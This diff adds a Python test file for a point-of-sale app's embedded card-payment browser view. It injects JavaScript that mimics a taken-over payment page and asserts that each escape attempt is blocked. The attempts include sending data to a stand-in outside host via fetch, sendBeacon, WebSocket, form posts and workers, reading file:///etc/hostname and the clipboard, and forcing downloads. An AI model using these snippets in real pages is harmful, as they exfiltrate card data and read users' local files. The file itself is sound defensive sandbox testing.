@@ -1,0 +1,165 @@
+"""A provider's page that has been taken over tries to get out. Each attempt must end inside the page."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from PySide6.QtWidgets import QApplication
+from pytestqt.qtbot import QtBot
+
+from pos_app.card.view import CardForm
+from tests.card.provider_server import HONEST_PAGE, ProviderServer
+
+# Runs `attempt`, then reports its value (or what it raised) and goes on as an honest page.
+_ATTEMPT = """
+window.cardSession = async (id) => {
+  window.session = id;
+  const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("silence"), 400))]);
+  let result;
+  try { result = await soon((async () => { ATTEMPT })()); } catch (error) { result = "blocked: " + error; }
+  await new Promise((go) => setTimeout(go, 100));
+  await fetch("/report", { method: "POST", body: JSON.stringify(result ?? null) });
+  answer({});
+};
+dispatchEvent(new CustomEvent("card-page-ready"));
+</script>"""
+
+_REACH_OUT = [
+    "await fetch('STRANGER/fetch', {mode: 'no-cors'})",
+    "await fetch('/moved', {mode: 'no-cors'})",
+    "new Image().src = 'STRANGER/image'",
+    "new Image().src = '/moved'",
+    "navigator.sendBeacon('STRANGER/beacon', 'card')",
+    "const s = document.createElement('script'); s.src = 'STRANGER/script'; document.body.append(s)",
+    "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = 'STRANGER/l';"
+    " document.head.append(l)",
+    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'STRANGER/l'; document.head.append(l)",
+    "const f = document.createElement('iframe'); f.src = 'STRANGER/frame'; document.body.append(f)",
+    "new WebSocket('STRANGER/socket'.replace('http', 'ws'))",
+    "new EventSource('STRANGER/events')",
+    "new Worker(URL.createObjectURL(new Blob([\"fetch('STRANGER/worker', {mode: 'no-cors'})\"])))",
+    "const f = document.createElement('form'); f.action = 'STRANGER/form'; f.method = 'post';"
+    " document.body.append(f); f.submit()",
+    "location.href = 'STRANGER/location'",
+    "window.open('STRANGER/window')",
+    "const a = document.createElement('a'); a.href = 'STRANGER/tab'; a.target = '_blank'; document.body.append(a);"
+    " a.click()",
+    "const a = document.createElement('a'); a.href = 'STRANGER/ping'; a.ping = 'STRANGER/ping'; a.click()",
+]
+_LEAVE = [
+    "location.href = 'file:///etc/hostname'",
+    "location.href = 'chrome://gpu'",
+    "location.href = 'data:text/html,<h1>gone</h1>'",
+    "location.href = 'view-source:' + location.href",
+    "location.href = 'mailto:someone@example.com'",
+    "const a = document.createElement('a'); a.href = 'about:blank'; a.click()",
+]
+_HOLD_UP = [
+    ("alert('Ligue para 0800'); return 'went on'", "went on"),
+    ("return confirm('Pagar fora?')", False),
+    ("return prompt('Senha?')", None),
+    ("print(); return 'went on'", "went on"),
+    ("return window.open('about:blank') === null", True),
+    ("return await Notification.requestPermission()", "denied"),
+    ("document.execCommand('paste'); return document.getElementById('cardHolderName').value", ""),
+    ("return typeof qt + typeof QWebChannel + typeof tillBegin", "undefinedundefinedundefined"),
+    ("return document.createElement('canvas').getContext('webgl') === null", True),
+]
+_REFUSED = [
+    "return await navigator.clipboard.readText()",
+    "await navigator.clipboard.writeText('x'); return 'wrote'",
+    "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)); return 'found'",
+    "await navigator.mediaDevices.getUserMedia({video: true, audio: true}); return 'sees'",
+    "await navigator.mediaDevices.getDisplayMedia(); return 'sees'",
+    "await document.documentElement.requestFullscreen(); return 'full'",
+    "await showOpenFilePicker(); return 'picked'",
+    "return await (await fetch('file:///etc/hostname')).text()",
+    "return await new Promise((yes, no) => { const f = document.createElement('iframe'); f.onload = () =>"
+    " { try { yes(f.contentDocument.body.innerText || no('empty')) } catch (e) { no(e) } };"
+    " f.src = 'file:///etc/hostname'; document.body.append(f) })",
+]
+
+
+def run(form: CardForm, provider: ProviderServer, stranger: ProviderServer, qtbot: QtBot, attempt: str) -> object:
+    """Run one attempt in the page, check that nothing got out and that the sale still works; return its result."""
+    before = set(QApplication.topLevelWidgets())
+    attempt = attempt.replace("STRANGER", stranger.url(""))
+    provider.page("/moved", "", 302, location=stranger.url("/redirect"))
+    provider.page("/file", "bytes", content_disposition="attachment; filename=evil.txt")
+    stranger.page("/redirect")
+    url = provider.page("/card", HONEST_PAGE.rpartition("</script>")[0] + _ATTEMPT.replace("ATTEMPT", attempt))
+
+    with qtbot.waitSignal(form.tokenized, timeout=10_000):
+        form.open(url, "s")
+
+    assert form._session is not None
+    assert form._session.page.url().toString() == url
+    assert form.host == "127.0.0.1"
+    assert stranger.asked == []
+    assert {widget for widget in QApplication.topLevelWidgets() if widget.isVisible()} <= before
+    result: object = json.loads(provider.reports[0])
+    return result
+
+
+@pytest.mark.parametrize("attempt", _REACH_OUT)
+def test_nothing_is_ever_sent_to_another_host(
+    form: CardForm, provider: ProviderServer, stranger: ProviderServer, qtbot: QtBot, attempt: str
+) -> None:
+    run(form, provider, stranger, qtbot, attempt)
+
+
+@pytest.mark.parametrize("attempt", _LEAVE)
+def test_the_page_cannot_turn_into_another(
+    form: CardForm, provider: ProviderServer, stranger: ProviderServer, qtbot: QtBot, attempt: str
+) -> None:
+    run(form, provider, stranger, qtbot, attempt)
+
+
+@pytest.mark.parametrize(("attempt", "answer"), _HOLD_UP)
+def test_the_page_is_answered_in_silence(
+    form: CardForm, provider: ProviderServer, stranger: ProviderServer, qtbot: QtBot, attempt: str, answer: object
+) -> None:
+    QApplication.clipboard().setText("secret")
+
+    assert run(form, provider, stranger, qtbot, attempt) == answer
+
+
+@pytest.mark.parametrize("attempt", _REFUSED)
+def test_the_page_is_refused_what_reaches_outside(
+    form: CardForm, provider: ProviderServer, stranger: ProviderServer, qtbot: QtBot, attempt: str
+) -> None:
+    QApplication.clipboard().setText("secret")
+
+    result = run(form, provider, stranger, qtbot, attempt)
+
+    assert str(result).startswith("blocked:")
+    assert QApplication.clipboard().text() == "secret"
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "const a = document.createElement('a'); a.href = '/file'; a.download = 'evil.txt'; a.click()",
+        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'evil.txt';"
+        " a.click()",
+        "location.href = '/file'",
+    ],
+)
+def test_nothing_is_downloaded(
+    form: CardForm,
+    provider: ProviderServer,
+    stranger: ProviderServer,
+    qtbot: QtBot,
+    attempt: str,
+    tmp_path: Path,
+) -> None:
+    def redirect() -> None:
+        assert form._session is not None
+        form._session._profile.setDownloadPath(str(tmp_path))
+
+    form.host_changed.connect(lambda host: redirect() if host else None)
+    run(form, provider, stranger, qtbot, attempt)
+
+    assert list(tmp_path.iterdir()) == []
